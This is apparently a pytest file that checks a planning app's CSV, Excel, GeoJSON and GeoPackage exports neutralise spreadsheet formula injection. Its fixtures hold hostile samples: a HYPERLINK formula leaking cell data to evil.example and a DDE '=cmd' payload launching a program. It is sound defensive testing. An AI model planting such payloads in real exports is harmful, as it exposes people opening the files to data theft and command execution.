"""Every export path defuses spreadsheet formulas (CSV, Excel, GeoJSON, GeoPackage; CLI, map page, exports page,
comments, analysis tables): a project name ``=HYPERLINK(...)`` never becomes a live formula."""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import zipfile
from pathlib import Path

import geopandas as gpd
import openpyxl
import pandas as pd
import pytest

from planning import writers
from planning.plan import load_plan
from tests.helpers import GEODATA, tiny_plan_docs, write_docs

HOSTILE = {
    "p-in-a": '=HYPERLINK("http://evil.example/?"&B2,"c")',
    "p-in-b": "+SUM(1,2)",
    "p-none": "@cmd",
}
EN_HOSTILE = "-2+3"
STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(scope="module")
def hostile_folder(tmp_path_factory) -> Path:
    docs = tiny_plan_docs()
    for feat in docs["projects.geojson"]["features"]:
        feat["properties"]["name_zh"] = HOSTILE[feat["properties"]["id"]]
        feat["properties"]["name_en"] = EN_HOSTILE
        feat["properties"]["geometry_source"] = "\t=cmd|' /C calc'!A0"
    return write_docs(tmp_path_factory.mktemp("hostile"), docs)


@pytest.fixture(scope="module")
def hostile_plan(hostile_folder: Path):
    plan = load_plan(hostile_folder)
    assert set(plan.projects["name_zh"]) == set(HOSTILE.values())
    return plan


def _live(value: object) -> bool:
    return isinstance(value, str) and value.startswith(STARTS)


def assert_csv_safe(raw: bytes) -> list[dict[str, str]]:
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
    assert rows, "the export has rows"
    for row in rows:
        assert not any(_live(v) for v in row.values()), row
    return rows


def assert_xlsx_safe(raw: bytes) -> dict[str, pd.DataFrame]:
    with zipfile.ZipFile(io.BytesIO(raw)) as book:
        sheets = [n for n in book.namelist() if n.startswith("xl/worksheets/") and n.endswith(".xml")]
        assert sheets
        for name in sheets:
            assert not re.search(rb"<f[ >]", book.read(name)), f"{name} holds a formula"
    workbook = openpyxl.load_workbook(io.BytesIO(raw))
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                assert not _live(cell.value), (sheet.title, cell.coordinate, cell.value)
    return pd.read_excel(io.BytesIO(raw), sheet_name=None)


def assert_geojson_safe(raw: bytes) -> list[dict]:
    doc = json.loads(raw)
    assert doc["features"]
    for feat in doc["features"]:
        assert not any(_live(v) for v in feat["properties"].values()), feat["properties"]
    return doc["features"]


def assert_gpkg_safe(raw: bytes, tmp_path: Path, layer: str = "projects") -> gpd.GeoDataFrame:
    path = tmp_path / "x.gpkg"
    path.write_bytes(raw)
    frame = gpd.read_file(path, layer=layer)
    for column in frame.columns.drop("geometry"):
        assert not any(_live(v) for v in frame[column]), (column, list(frame[column]))
    return frame


@pytest.mark.parametrize("value", ["=1+1", "+SUM(A1)", "-2+3", "@cmd", "\t=x", "\r=x"])
def test_defuse_prefixes_every_formula_start(value):
    assert writers.defuse(value) == "'" + value
    assert writers.defuse("槐荫=好") == "槐荫=好" and writers.defuse(-3.5) == -3.5 and writers.defuse(None) is None
    assert writers.defuse(["=a"]) == '["=a"]', "lists become JSON text (which starts with [)"


def test_xlsx_writer_stores_no_formula_even_for_column_names():
    frame = pd.DataFrame({"=bad": ["=1+1", "ok"], "n": [-1, 2]})
    sheets = assert_xlsx_safe(writers.xlsx_bytes({"t": frame}))
    assert list(sheets["t"].columns) == ["'=bad", "n"] and sheets["t"]["n"].tolist() == [-1, 2]
    assert sheets["t"].iloc[0, 0] == "'=1+1", "the text is kept, readable, with the spreadsheet's text mark"


# --------------------------------------------------------------------------- python -m planning export data


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "geojson", "gpkg"])
def test_cli_export_data_defuses_every_format(hostile_folder: Path, tmp_path: Path, fmt: str):
    from layers.cli import main

    out = tmp_path / f"p.{fmt}"
    assert main(["export", "data", "-o", str(out), "--data", str(hostile_folder)]) == 0
    raw = out.read_bytes()
    if fmt == "csv":
        names = {r["name_zh"] for r in assert_csv_safe(raw)}
    elif fmt == "xlsx":
        names = set(assert_xlsx_safe(raw)["projects"]["name_zh"])
    elif fmt == "geojson":
        names = {f["properties"]["name_zh"] for f in assert_geojson_safe(raw)}
    else:
        names = set(assert_gpkg_safe(raw, tmp_path)["name_zh"])
    assert names == {"'" + v for v in HOSTILE.values()}, "the names are kept as text"


# --------------------------------------------------------------------------- the map page's public downloads


def test_map_page_downloads_defuse_formulas(hostile_plan, tmp_path: Path):
    from app_pages import map_view

    ids = tuple(sorted(hostile_plan.projects["id"]))
    assert_csv_safe(map_view.csv_bytes(hostile_plan, ids))
    sheets = assert_xlsx_safe(map_view.xlsx_bytes(hostile_plan, ids))
    assert set(sheets["projects"]["name_en"]) == {"'" + EN_HOSTILE}
    assert_geojson_safe(map_view.geojson_bytes(hostile_plan, ids))


def test_exports_page_data_buttons_defuse_formulas(hostile_plan, tmp_path: Path):
    from app_pages import exports

    ids = tuple(hostile_plan.projects["id"])
    tids = tuple(t.id for t in hostile_plan.targets)
    assert_csv_safe(exports._data_bytes(hostile_plan, "csv", ("projects",), ids, tids))
    assert_xlsx_safe(exports._data_bytes(hostile_plan, "xlsx", ("projects", "targets"), ids, tids))
    assert_geojson_safe(exports._data_bytes(hostile_plan, "geojson", ("projects",), ids, tids))
    assert_gpkg_safe(exports._data_bytes(hostile_plan, "gpkg", ("projects", "targets"), ids, tids), tmp_path)


# --------------------------------------------------------------------------- comments and analysis tables


def test_comment_exports_defuse_formulas(tmp_path: Path):
    from planning.comments import Comment, csv_bytes, geojson_bytes

    comment = Comment(id=1, created_at="2026-01-01T00:00:00Z", kind="建议", text="=1+1", contact="@me",
                      zone_id="core-a", lon=116.9, lat=36.6, lang="zh", status="approved", reason=None,
                      reply="-ok", moderator="+x", moderated_at=None, replied_at=None)
    assert_csv_safe(csv_bytes([comment], include_contact=True))
    assert_geojson_safe(geojson_bytes([comment], include_contact=True))


def test_analysis_csvs_defuse_formulas(tmp_path: Path):
    from planning.redline import conflict_table, to_csv
    from planning.transit import catchments, far_projects, zone_statistics_table

    folder = tmp_path / "geodata"
    shutil.copytree(GEODATA, folder, ignore=shutil.ignore_patterns("audit.jsonl", "overlays", "*.sqlite*"))
    doc = json.loads((folder / "projects.geojson").read_text(encoding="utf-8"))
    for feat in doc["features"]:
        feat["properties"]["name_zh"] = "=" + feat["properties"]["name_zh"]
        feat["properties"]["name_en"] = "@" + str(feat["properties"].get("name_en"))
    (folder / "projects.geojson").write_text(json.dumps(doc, ensure_ascii=False), encoding="utf-8")
    plan = load_plan(folder)
    tables = [conflict_table(plan), catchments(plan), far_projects(plan), zone_statistics_table(plan)]
    assert any(t.map(_live).to_numpy().any() for t in tables if not t.empty), "the hostile names reach the tables"
    for table in tables:
        if not table.empty:
            assert_csv_safe(to_csv(table))
